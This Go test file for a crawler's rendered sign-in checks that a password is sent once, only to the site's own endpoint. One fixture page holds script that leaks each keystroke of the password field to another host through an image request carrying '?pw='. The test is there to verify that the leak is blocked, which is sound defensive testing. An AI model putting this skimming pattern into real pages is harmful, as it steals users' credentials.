package rendertest

import (
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"

	"github.com/orbweaver/orbweaver/crawler"
	"github.com/orbweaver/orbweaver/crawler/fetch"
	"github.com/orbweaver/orbweaver/crawler/internal/sitetest"
	"github.com/orbweaver/orbweaver/crawler/session"
	"github.com/orbweaver/orbweaver/urinorm"
)

// TestSignIn signs in with forms that scripts make and send. Only the request with the password
// is sent, once, and to the site only: scripts cannot send it elsewhere by GET either.
func TestSignIn(t *testing.T) {
	t.Parallel()
	if shared == nil {
		t.Skip("there is no browser")
	}
	const password = `s3 "cret" ü`
	var elsewhere []string // requests to another host
	var mu sync.Mutex
	other, _ := sitetest.Serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		elsewhere = append(elsewhere, r.URL.RequestURI())
		mu.Unlock()
	}))
	pages := map[string]string{
		"/json": `<div id=app></div><script>setTimeout(() => { app.innerHTML = "<input id=u autocomplete=username><input type=password id=p><button disabled>Sign in</button>"
const b = document.querySelector("button"); u.oninput = p.oninput = () => { b.disabled = !u.value || !p.value }
navigator.sendBeacon("/beacon", "x"); fetch("/analytics", {method: "POST", body: "x"}).catch(() => {})
b.onclick = async () => {
	const r = await fetch("/api", {method: "POST", headers: {"X-Csrf": document.cookie.split("csrf=")[1]}, body: JSON.stringify({user: u.value, pass: p.value})})
	if (r.ok) location = "/home"; else document.body.insertAdjacentHTML("beforeend", "<p role=alert>Wrong password")
} }, 100)</script>`,
		"/form": `<div id=app></div><script>app.innerHTML = "<form method=post action=/api><input name=user><input name=pw type=password><input name=trap style='opacity:0'><button>Go</button></form>"</script>`,
		"/steps": `<img src="` + other + `"><form id=f><input name=user></form><script>f.onsubmit = () => { f.innerHTML = "<input type=password name=pw><button>ok</button>"
f.pw.oninput = () => { new Image().src = "` + other + `" + "?pw=" + f.pw.value }
f.onsubmit = () => { fetch("/api", {method: "POST", body: new URLSearchParams({user: "alice", pw: f.pw.value})}).then(() => location.href = "/home"); return false }; return false }</script>`,
		"/elsewhere": `<div id=app></div><script>app.innerHTML = "<form method=post action=http://localhost:9/api><input name=user><input name=pw type=password><button>Go</button></form>"</script>`,
	}
	var posts []string
	root, _ := sitetest.Serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		page, isPage := pages[r.URL.Path]
		cookie, _ := r.Cookie("sid")
		switch {
		case r.Method == http.MethodPost:
			mu.Lock()
			posts = append(posts, r.URL.Path)
			mu.Unlock()
			body, _ := io.ReadAll(r.Body)
			ok := string(body) == `{"user":"alice","pass":"s3 \"cret\" ü"}` && r.Header.Get("X-Csrf") == "token" || strings.HasPrefix(string(body), "user=alice&pw=s3+%22cret%22+%C3%BC")
			if !ok {
				http.Error(w, "no", http.StatusUnauthorized)
				return
			}
			http.SetCookie(w, &http.Cookie{Name: "sid", Value: "member", Path: "/", HttpOnly: true})
			if r.Header.Get("X-Csrf") == "" && strings.HasSuffix(r.Referer(), "/form") {
				http.Redirect(w, r, "/home", http.StatusSeeOther)
			}
		case isPage:
			http.SetCookie(w, &http.Cookie{Name: "csrf", Value: "token", Path: "/"})
			fmt.Fprintf(w, "<!doctype html><title>t</title><body>%s", page)
		case cookie == nil || cookie.Value != "member":
			http.Redirect(w, r, "/json", http.StatusFound)
		default:
			fmt.Fprint(w, "<!doctype html><title>home</title>Hello alice")
		}
	}))
	root = strings.TrimSuffix(root, "/")
	signIn := func(page, password string) (session.SignedIn, error) {
		start, _, err := urinorm.ParseWeb(root + "/home")
		if err != nil {
			t.Fatal(err)
		}
		plan, err := session.NewPlan([]session.Config{{Name: "--login", URL: root + page, User: "alice", Password: session.NewSecret(password), Rendered: true}},
			[]urinorm.URL{start}, func(urinorm.URL) bool { return true })
		if err != nil {
			t.Fatal(err)
		}
		web, err := fetch.NewHTTP(fetch.HTTPConfig{UserAgent: "orbweaver-test/1", Secrets: fetch.Secrets{CookieGroups: plan.CookieGroups()}})
		if err != nil {
			t.Fatal(err)
		}
		defer web.Close()
		posts = nil
		return crawler.SignIn(t.Context(), &crawler.Login{Fetch: web, Browser: shared[4]}, plan.Logins[0], nil)
	}
	for _, page := range []string{"/json", "/form", "/steps"} {
		if done, err := signIn(page, password); err != nil || done.Doubt != "" || len(posts) != 1 || posts[0] != "/api" {
			t.Errorf("%s: %+v, %v, posts to %q", page, done, err, posts)
		}
	}
	if _, err := signIn("/json", "wrong password"); err == nil || !strings.Contains(err.Error(), "Wrong password") || len(posts) != 1 {
		t.Errorf("a wrong password: %v, posts to %q", err, posts)
	}
	if _, err := signIn("/elsewhere", password); err == nil || !strings.Contains(err.Error(), "localhost:9") || len(posts) != 0 {
		t.Errorf("a form for another host: %v, posts to %q", err, posts)
	}
	if len(elsewhere) != 1 || strings.Contains(elsewhere[0], "pw=") {
		t.Errorf("another host got %q, want the image of the page alone", elsewhere)
	}
}
